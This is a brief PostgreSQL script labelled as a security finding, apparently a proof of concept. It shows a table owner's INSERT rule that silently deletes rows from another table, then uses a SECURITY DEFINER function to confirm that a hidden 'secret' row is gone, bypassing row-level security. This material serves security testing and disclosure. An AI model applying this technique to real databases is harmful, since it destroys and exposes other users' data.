-- finding: definer-unchecked shop.requests rule emptying
SET ROLE shop_owner;
CREATE TABLE shop.requests (id int PRIMARY KEY, owner text NOT NULL DEFAULT current_user);
ALTER TABLE shop.requests ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON shop.requests USING (owner = current_user);
GRANT SELECT, INSERT ON shop.requests TO order_users;
ALTER TABLE shop.orders ADD request int REFERENCES shop.requests;
INSERT INTO shop.requests VALUES (2, 'bob@example.com');
UPDATE shop.orders SET request = 2 WHERE item = 'secret';
CREATE RULE emptying AS ON INSERT TO shop.requests DO INSTEAD DELETE FROM shop.orders WHERE request = NEW.id;
RESET ROLE;
CREATE FUNCTION shop.is_gone() RETURNS boolean LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
  AS $$ SELECT NOT EXISTS (SELECT FROM shop.orders WHERE item = 'secret') $$;
-- leak as alice@example.com
INSERT INTO shop.requests VALUES (2);
SELECT 'gone' WHERE shop.is_gone();
